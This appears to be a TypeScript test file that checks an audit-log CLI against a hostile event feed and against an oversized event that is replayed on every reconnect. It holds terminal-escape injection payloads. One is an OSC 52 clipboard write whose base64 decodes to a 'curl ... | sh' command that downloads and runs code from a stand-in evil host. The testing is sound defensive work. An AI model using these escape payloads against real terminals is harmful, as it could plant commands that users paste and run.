/**
 * The audit log as a transparency log, end to end: the real CLI against the sandbox control plane, whose
 * store is rewritten, rolled back, forked, or whose checkpoints and proofs are forged between two runs
 * (issue 17). This file: a hostile feed: terminal escapes in every field, and a feed that ignores Last-Event-ID with a 50 MB event.
 * Each case first has a run remember a checkpoint, then changes the log as an operator who can
 * write the store would, then runs again: exit 5 under --verify with one line saying what happened.
 */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { auditLogFile } from '../helpers/audit-log.js';
import { runCli, startCli } from '../helpers/cli.js';

const log = auditLogFile('audit-log-hostile');
const { test, baseline, errors } = log;

// biome-ignore lint/suspicious/noControlCharactersInRegex: what must never reach the terminal
const ESC_OR_C1 = /[\u001b\u0007\u007f-\u009f]/;

test('a hostile feed (clear-screen, OSC 52 clipboard write, window title in ts, tenant, SSE id and every field): no ESC or C1 reaches the terminal', async () => {
  await baseline();
  const evil = {
    clear: '\u001b[2J\u001b[H',
    clip: '\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\u0007',
    title: '\u001b]0;pwned\u0007',
    csi: '\u009b31m',
  };
  const all = Object.values(evil).join('');
  const event = {
    seq: 1,
    ts: `2026-12-01T00:00:00.000Z${all}`,
    tenant: `acme${evil.clip}`,
    actor: `mallory${evil.title}`,
    tool: `x${evil.clear}`,
    downstream: `d${evil.csi}`,
    outcome: 'denied',
    reason: all,
    prev: '0'.repeat(64),
    hash: 'f'.repeat(64),
  };
  const frames = [
    `id: 1${evil.title}\nevent: audit\ndata: {not json\n\n`,
    `id: 2\nevent: audit\ndata: ${JSON.stringify(event)}\n\n`,
    `id: 3\nevent: audit\ndata: ${JSON.stringify({ ...event, seq: 3 }).replace(',', ',\ndata: ')}\n\n`,
  ].join('');
  for (const mode of ['--pretty', '--json']) {
    log.plane.setStreamFault({ kind: 'raw', frames });
    const r = await runCli(
      ['--profile', 'sandbox', 'audit', 'tail', '--tenant', 'acme', '--no-follow', mode, '--quiet'],
      log.user.env(),
    );
    log.plane.setStreamFault(undefined);
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stdout, ESC_OR_C1, `${mode} stdout: ${JSON.stringify(r.stdout)}`);
    assert.doesNotMatch(r.stderr, ESC_OR_C1, `${mode} stderr: ${JSON.stringify(r.stderr)}`);
    assert.match(r.stderr, /event 1 \]0;pwned is malformed/);
    assert.match(r.stderr, /names tenant acme ?\]52;c;/);
    if (mode === '--json') {
      const lines = r.stdout.trim().split('\n');
      assert.equal(lines.length, 2, 'the multi-line data event stays one NDJSON line');
      for (const l of lines) assert.equal((JSON.parse(l) as { actor: string }).actor, event.actor);
    }
  }
});

test('a feed that ignores Last-Event-ID and re-sends a 50 MB event every time: gives up after a bounded number of resumes, exit 1, one line why; memory stays bounded', async () => {
  await baseline();
  log.plane.setStreamFault({ kind: 'oversize', seq: 3, bytes: 50 * 1024 * 1024, replay: true });
  const started = Date.now();
  const run = startCli(
    ['--profile', 'sandbox', 'audit', 'tail', '--tenant', 'acme', '--no-follow', '--json'],
    log.user.env(),
    120_000,
  );
  run.child.stdin.end();
  let peakKib = 0;
  const sampler = setInterval(async () => {
    const status = await readFile(`/proc/${run.child.pid}/status`, 'utf8').catch(() => '');
    const m = status.match(/VmHWM:\s+(\d+) kB/);
    if (m) peakKib = Math.max(peakKib, Number(m[1]));
  }, 50);
  const r = await run.done;
  clearInterval(sampler);
  log.plane.setStreamFault(undefined);
  assert.equal(r.code, 1, r.stderr);
  assert.ok(Date.now() - started < 110_000, 'it ends');
  const errs = errors(r.stderr);
  assert.equal(errs.length, 1, r.stderr);
  assert.match(errs[0]!, /error: the audit feed of acme made no progress in 8 reconnections in a row/);
  const seqs = r.stdout
    .trim()
    .split('\n')
    .map((l) => (JSON.parse(l) as { seq: number }).seq);
  assert.deepEqual(seqs, [1, 2], 'the events before it once, never repeated');
  assert.ok(peakKib < 200 * 1024, `peak RSS ${Math.round(peakKib / 1024)} MiB`);
});
